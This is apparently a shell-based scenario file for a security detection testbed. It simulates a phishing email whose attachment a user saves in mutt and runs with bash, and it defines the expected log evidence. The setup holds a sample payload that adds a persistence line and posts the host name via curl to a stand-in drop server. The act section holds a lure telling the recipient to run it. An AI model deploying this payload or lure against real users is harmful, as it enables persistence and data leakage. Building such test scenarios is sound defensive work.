# A script is saved with mutt and given to bash by name; it is never made executable.
title="Script attachment run; the message is still in the mailbox, and the file on the disk"
what="dev reads the mail in mutt over SSH, saves the attachment stock_sync.txt into the home directory and runs it with bash although it
is not executable and not called a script. It writes a line into ~/.profile.d and posts the host name to 203.0.113.66."
host=mx1.example.org user=dev daemons="cron sshd" store=mbox

setup() {
  cat > "$base/out/stock_sync.txt" <<'P'
# stock synchronisation, run with: bash stock_sync.txt
mkdir -p ~/.profile.d
echo "# stock" >> ~/.profile.d/stock
curl -s -d "host=$(hostname)" http://drop.example.net/s >/dev/null
echo synchronised
P
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\n' > /home/dev/.muttrc
  chown dev: /home/dev/.muttrc
}
act() {
  small_talk 3
  mail_in --from helpdesk@example.com --to dev@example.org --subject "Stock tables out of step" --source 203.0.113.25 --helo smtp.example.com \
    --text "Hi,\n\nplease run the enclosed: bash stock_sync.txt\n\nHelpdesk\n" --attach "$base/out/stock_sync.txt:application/octet-stream:stock_sync.txt"
  wait_log 'from=<helpdesk@example.com>'
  wait_mail dev 1
  sleep 1
  ssh_as dev <<'L'
ls
%saves mutt
ls -l stock_sync.txt
%sleep 3
bash stock_sync.txt
cat /etc/os-release | head -2
L
  small_talk 1
  keep /var/mail/dev /home/dev/stock_sync.txt
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'the message reaches the mbox of dev'
  file_step read 'mutt open(at)?:(read|write) NORMAL /var/mail/dev' 'mutt reads the mailbox'
  file_step save 'mutt open(at)?:write CREATE /home/dev/.*stock_sync.txt' 'mutt writes the attachment'
  exec_step execute 'bash stock_sync.txt' 'bash runs it by name, without an execute bit'
  exec_step post 'curl -s -d host=' 'it posts the host name'
  net_step beacon 'curl 203.0.113.66:80' 'to an address outside'
}
